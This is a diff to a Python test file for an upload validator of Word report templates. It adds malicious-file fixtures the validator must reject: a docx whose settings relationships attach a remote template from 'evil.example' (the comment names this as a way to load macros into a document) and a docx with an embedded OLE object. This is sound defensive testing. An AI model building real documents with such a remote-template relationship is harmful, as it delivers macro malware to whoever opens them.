@@ -182,6 +182,21 @@ def test_only_leads_see_the_template_page(programme: Programme, role: str) -> No
     assert not ReportTemplate.objects.exists()
 
 
+# Word fetches an attached template from its address when the document opens: the "remote
+# template" way of getting macros into a document that has none.
+REMOTE_TEMPLATE = {
+    "word/_rels/settings.xml.rels": b'<?xml version="1.0" encoding="UTF-8"?>'
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
+    b'TargetMode="External"/></Relationships>'
+}
+
+
+def _with(extra: dict[str, bytes]) -> bytes:
+    return _zip({**_parts(make_template()), **extra})
+
+
 BAD_FILES = [
     ("random.docx", lambda: os.urandom(3000), "is not a Word document (.docx)"),
     (
@@ -198,6 +213,8 @@ BAD_FILES = [
     ("bomb.docx", _bomb, "looks like a zip bomb"),
     ("lying.docx", _lying_sizes, "cannot be read from the archive"),
     ("macros.docm", lambda: make_template(macros=True), "contains macros"),
+    ("remote.docx", lambda: _with(REMOTE_TEMPLATE), "refers to a file on another server"),
+    ("ole.docx", lambda: _with({"word/embeddings/oleObject1.bin": b"\0" * 64}), "embedded"),
 ]
 
 
